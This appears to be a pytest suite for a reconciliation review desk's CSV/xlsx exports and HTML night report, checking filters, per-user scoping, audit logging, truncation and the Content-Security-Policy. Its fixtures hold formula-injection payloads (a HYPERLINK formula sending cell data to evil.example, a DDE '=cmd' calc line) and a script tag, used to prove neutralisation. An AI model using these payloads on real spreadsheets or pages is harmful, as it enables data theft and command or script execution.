"""The desk's downloads on a real server over SQLite and PostgreSQL: the findings, adjustments, nights and
payouts lists as CSV and xlsx (the list's rows, formula-safe, the user's properties only, audited, cut at a
limit) and the night's HTML report under its own Content-Security-Policy."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re
from collections.abc import Iterator
from dataclasses import dataclass

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, insert, select

from recon_pipeline.db.schema import adjustments, discrepancies, payouts, review_audit
from recon_pipeline.review_desk.pages import exports
from recon_pipeline_tests.support.desk_fixtures import NIGHT, NOW, add_user, finding, served_desk, sign_in
from recon_pipeline_tests.support.desk_rows import payout_row
from recon_pipeline_tests.support.loopback import loopback_client

EARLIER = "2026-12-01"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SCRIPT = "<script>alert('x')</script>"


@dataclass
class Desk:
    engine: Engine
    base_url: str


def adjustment(property_id: str, record_id: str, amount: int, status: str, reason: str) -> dict[str, object]:
    return {
        "adjustment_id": f"adj_{record_id:0>24}",
        "idempotency_key": f"{property_id}/{NIGHT}/refund/{record_id}",
        "property_id": property_id,
        "night": NIGHT,
        "kind": "refund",
        "amount_minor": amount,
        "currency": "EUR",
        "reason": reason,
        "status": status,
        "created_at": NOW,
    }


@pytest.fixture
def desk(database_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[Desk]:
    with served_desk(database_url, monkeypatch) as served:
        with served.engine.begin() as connection:
            connection.execute(
                insert(discrepancies),
                finding(
                    "p1",
                    "r-formula",
                    -1500,
                    HYPERLINK,
                    booking_id="+cmd",
                    provider_record_id="-2+3",
                    ledger_entry_id="@SUM(A1)",
                    provider_amount_minor=-500,
                ),
            )
            connection.execute(
                insert(discrepancies),
                [
                    finding("p1", "r-small", 20, SCRIPT),
                    finding("p1", "r-earlier", 700, night=EARLIER),
                    finding("p2", "r-other", 900),
                ],
            )
            connection.execute(
                insert(adjustments),
                [
                    adjustment("p1", "a1", -1500, "proposed", "=cmd|' /C calc'!A0"),
                    adjustment("p1", "a2", 300, "approved", "refund twice"),
                    adjustment("p2", "a3", 900, "proposed", "other property"),
                ],
            )
        add_user("ana", "analyst", "p1")
        yield Desk(served.engine, served.base_url)


@pytest.fixture
def client(desk: Desk) -> Iterator[httpx.Client]:
    with loopback_client(base_url=desk.base_url) as signed_in:
        assert sign_in(signed_in).status_code == 303
        yield signed_in


def csv_rows(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline="")))


def listed_records(page: httpx.Response) -> list[str]:
    """The record keys of the findings list page, in its order."""
    assert page.status_code == 200
    return re.findall(r'<a href="/findings/\d+(?:\?[^"]*)?">([^<]+)</a>', page.text)


def attachment_name(response: httpx.Response) -> str:
    match = re.fullmatch(r'attachment; filename="([^"]+)"', response.headers["content-disposition"])
    assert match, response.headers["content-disposition"]
    return match.group(1)


@pytest.mark.parametrize(
    "params",
    [{}, {"night_from": NIGHT, "amount_at_least": "1.00"}, {"property": "p1", "night_to": EARLIER}],
)
def test_a_csv_export_holds_the_rows_the_list_shows(client: httpx.Client, params: dict[str, str]) -> None:
    shown = listed_records(client.get("/findings", params=params))
    rows = csv_rows(client.get("/findings/export.csv", params=params))
    assert [row["record_key"] for row in rows] == shown and shown
    assert {row["property_id"] for row in rows} == {"p1"}  # p2's finding is never exported


def test_the_findings_list_links_its_exports_with_its_filters(client: httpx.Client) -> None:
    page = client.get("/findings", params={"property": "p1", "night_from": EARLIER, "category": ""})
    assert '<a href="/findings/export.csv?property=p1&amp;night_from=2026-12-01">Export CSV</a>' in page.text
    assert (
        '<a href="/findings/export.xlsx?property=p1&amp;night_from=2026-12-01">Export xlsx</a>' in page.text
    )


def test_csv_text_cells_are_neutralised_and_numbers_stay_numbers(client: httpx.Client) -> None:
    response = client.get(
        "/findings/export.csv", params={"property": "p1", "night_from": EARLIER, "night_to": NIGHT}
    )
    assert attachment_name(response) == "findings-p1-2026-12-01_2026-12-02.csv"
    assert response.headers["cache-control"] == "no-store"
    formula = next(row for row in csv_rows(response) if row["record_key"] == "r-formula")
    assert formula["detail"] == "'" + HYPERLINK
    assert (formula["booking_id"], formula["provider_record_id"], formula["ledger_entry_id"]) == (
        "'+cmd",
        "'-2+3",
        "'@SUM(A1)",
    )
    assert (formula["difference_minor"], formula["provider_amount_minor"]) == ("-1500", "-500")
    assert formula["ledger_amount_minor"] == ""  # null: an empty cell


def test_an_xlsx_export_reads_back_with_openpyxl(client: httpx.Client) -> None:
    params = {"cleared": "no", "night_from": NIGHT}
    response = client.get("/findings/export.xlsx", params=params)
    assert response.status_code == 200
    assert response.headers["content-type"] == exports.MEDIA_TYPES["xlsx"]
    assert attachment_name(response) == "findings-from-2026-12-02-not-cleared.xlsx"
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None and sheet.title == "findings"
    header, *rows = [list(row) for row in sheet.iter_rows()]
    csv_header = list(csv_rows(client.get("/findings/export.csv", params=params))[0])
    assert [cell.value for cell in header] == csv_header and all(cell.font.b for cell in header)
    by_record = {row[csv_header.index("record_key")].value: row for row in rows}
    assert sorted(by_record) == sorted(listed_records(client.get("/findings", params=params)))
    formula = by_record["r-formula"]
    detail = formula[csv_header.index("detail")]
    assert (detail.value, detail.data_type) == ("'" + HYPERLINK, "s")  # text, not a formula cell
    difference = formula[csv_header.index("difference_minor")]
    assert (difference.value, difference.data_type) == (-1500, "n")
    assert formula[csv_header.index("ledger_amount_minor")].value is None
    assert by_record["r-small"][csv_header.index("detail")].value == SCRIPT  # data, shown as it is


def test_an_adjustments_export_is_the_users_filtered_queue(client: httpx.Client) -> None:
    rows = csv_rows(client.get("/adjustments/export.csv", params={"tab": "all"}))
    assert sorted(row["adjustment_id"] for row in rows) == [f"adj_{'a1':0>24}", f"adj_{'a2':0>24}"]
    assert [row["adjustment_id"] for row in csv_rows(client.get("/adjustments/export.csv"))] == [
        f"adj_{'a1':0>24}"
    ]  # the queue's default tab: what needs a decision
    proposed = client.get("/adjustments/export.csv", params={"state": "proposed", "night_from": NIGHT})
    assert attachment_name(proposed) == "adjustments-from-2026-12-02-proposed.csv"
    [row] = csv_rows(proposed)
    assert (row["reason"], row["amount_minor"]) == ("'=cmd|' /C calc'!A0", "-1500")
    book = load_workbook(
        io.BytesIO(client.get("/adjustments/export.xlsx", params={"state": "approved"}).content)
    )
    sheet = book.active
    assert sheet is not None
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert len(values) == 2 and values[1][values[0].index("amount_minor")] == 300
    assert (
        client.get("/adjustments/export.csv", params={"night_to": EARLIER}).text.count("\r\n") == 1
    )  # header


def test_the_nights_overview_export_has_a_row_per_night_and_category_of_the_users_properties(
    client: httpx.Client,
) -> None:
    rows = csv_rows(client.get("/nights/export.csv"))
    assert sorted(
        (row["property_id"], row["night"], row["category"], row["outstanding"]) for row in rows
    ) == [
        ("p1", EARLIER, "amount_mismatch", "1"),
        ("p1", NIGHT, "amount_mismatch", "2"),
    ]
    tonight = next(row for row in rows if row["night"] == NIGHT)
    assert tonight["outstanding_amounts"] == "15.20 EUR"  # sum of |difference|: 15.00 + 0.20
    assert tonight["adjustment_states"] == "approved 1, proposed 1"
    assert tonight["review_states"] == "open 2" and tonight["freshness"] == "never reconciled"
    one_night = client.get("/nights/export.xlsx", params={"night_from": NIGHT, "night_to": NIGHT})
    assert attachment_name(one_night) == f"nights-{NIGHT}_{NIGHT}.xlsx"
    sheet = load_workbook(io.BytesIO(one_night.content)).active
    assert sheet is not None
    header, *values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert [row[header.index("night")] for row in values] == [NIGHT]


def test_the_payouts_export_holds_the_users_payouts_with_their_deposit(
    client: httpx.Client, desk: Desk
) -> None:
    with desk.engine.begin() as connection:
        connection.execute(
            insert(payouts),
            [payout_row("po_p1", "p1"), payout_row("po_failed", "p1", "failed"), payout_row("po_p2", "p2")],
        )
    rows = csv_rows(client.get("/payouts/export.csv"))
    assert sorted((row["payout_id"], row["status"], row["deposited"]) for row in rows) == [
        ("po_failed", "failed", "False"),
        ("po_p1", "paid", "False"),
    ]
    failed = client.get("/payouts/export.xlsx", params={"status": "failed"})
    assert attachment_name(failed) == "payouts-failed.xlsx"
    sheet = load_workbook(io.BytesIO(failed.content)).active
    assert sheet is not None
    header, *values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert [(row[header.index("payout_id")], row[header.index("amount_minor")]) for row in values] == [
        ("po_failed", 12_345)
    ]


@pytest.mark.parametrize(
    ("path", "params", "named"),
    [
        ("/findings/export.csv", {"property": "p2"}, "p2"),
        ("/findings/export.xlsx", {"night_from": "2026-13-01"}, "2026-13-01"),
        ("/findings/export.csv", {"amount_at_least": "-5"}, "amount at least"),
        ("/adjustments/export.xlsx", {"property": "p2"}, "p2"),
        ("/adjustments/export.csv", {"state": "bogus"}, "bogus"),
        ("/nights/export.csv", {"property": "p2"}, "p2"),
        ("/payouts/export.xlsx", {"status": "lost"}, "lost"),
    ],
)
def test_a_bad_filter_is_refused_in_one_line(
    client: httpx.Client, desk: Desk, path: str, params: dict[str, str], named: str
) -> None:
    response = client.get(path, params=params)
    assert response.status_code == 400
    assert len(response.text.splitlines()) == 1 and named in response.text
    with desk.engine.connect() as connection:
        assert (
            connection.execute(select(review_audit).where(review_audit.c.action == "export")).first() is None
        )


def test_exports_need_a_signed_in_user(desk: Desk) -> None:
    with loopback_client(base_url=desk.base_url) as anonymous:
        for path in ("/findings/export.csv", "/adjustments/export.xlsx", f"/nights/p1/{NIGHT}/report.html"):
            assert anonymous.get(path).headers["location"] == "/signin"


def test_every_export_writes_an_audit_row(client: httpx.Client, desk: Desk) -> None:
    client.get("/findings/export.csv", params={"property": "p1", "night_from": NIGHT})
    client.get("/adjustments/export.xlsx", params={"state": "proposed"})
    client.get(f"/nights/p1/{NIGHT}/report.html")
    with desk.engine.connect() as connection:
        audit = connection.execute(
            select(review_audit.c.user_name, review_audit.c.target, review_audit.c.detail)
            .where(review_audit.c.action == "export")
            .order_by(review_audit.c.id)
        ).all()
    assert [tuple(row) for row in audit] == [
        ("ana", "property=p1&night_from=2026-12-02", "findings csv 2 rows"),
        ("ana", "state=proposed", "adjustments xlsx 1 row"),
        ("ana", f"p1/{NIGHT}", "night report html"),
    ]


def test_an_export_past_the_limit_is_cut_and_says_so(
    client: httpx.Client, desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "EXPORT_LIMIT", 2)
    response = client.get("/findings/export.csv")
    assert [row["record_key"] for row in csv_rows(response)] == ["r-formula", "r-small"]
    assert response.headers[exports.TRUNCATED_HEADER] == "first 2 rows"
    assert attachment_name(response) == "findings-first-2.csv"
    whole = client.get("/findings/export.csv", params={"night_from": NIGHT})
    assert exports.TRUNCATED_HEADER not in whole.headers and len(csv_rows(whole)) == 2
    with desk.engine.connect() as connection:
        details = connection.execute(
            select(review_audit.c.detail).where(review_audit.c.action == "export").order_by(review_audit.c.id)
        ).scalars()
        assert list(details) == ["findings csv 2 rows (cut at the limit)", "findings csv 2 rows"]


def test_the_nights_report_is_served_for_the_users_properties_only(client: httpx.Client) -> None:
    report = client.get(f"/nights/p1/{NIGHT}/report.html")
    assert report.status_code == 200 and report.headers["content-type"] == "text/html; charset=utf-8"
    assert "Reconciliation of p1, night 2026-12-02" in report.text
    assert "r-formula" in report.text and "r-small" in report.text
    assert "r-earlier" not in report.text and "r-other" not in report.text
    assert SCRIPT not in report.text and "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in report.text
    for path in (
        f"/nights/p2/{NIGHT}/report.html",  # another property's
        f"/nights/p9/{NIGHT}/report.html",
        "/nights/p1/2026-13-45/report.html",
        "/nights/p1/yesterday/report.html",
    ):
        assert client.get(path).status_code == 404, path


def test_the_nights_report_has_a_policy_allowing_its_own_inline_code_and_nothing_more(
    client: httpx.Client,
) -> None:
    report = client.get(f"/nights/p1/{NIGHT}/report.html")
    [policy] = report.headers.get_list("content-security-policy")  # the desk's own is not added as well
    directives = dict(
        (name, values) for name, *values in (part.split() for part in policy.split(";") if part.strip())
    )

    def hashes(pattern: str) -> list[str]:
        blocks = re.findall(pattern, report.text, flags=re.DOTALL)
        assert blocks
        return [
            "'sha256-" + base64.b64encode(hashlib.sha256(block.encode()).digest()).decode() + "'"
            for block in blocks
        ]

    assert directives == {
        "default-src": ["'none'"],
        "style-src": hashes(r"<style>(.*?)</style>"),
        "script-src": hashes(r"<script>(.*?)</script>"),  # the JSON data block is never run
        "base-uri": ["'none'"],
        "form-action": ["'none'"],
        "frame-ancestors": ["'none'"],
    }
    # Nothing else the policy would have to allow: no inline style or handler, no loaded file.
    assert not re.search(r"\sstyle=|\son[a-z]+=|\ssrc=|<link|<iframe|<img", report.text)
    assert report.headers["x-frame-options"] == "DENY" and report.headers["cache-control"] == "no-store"
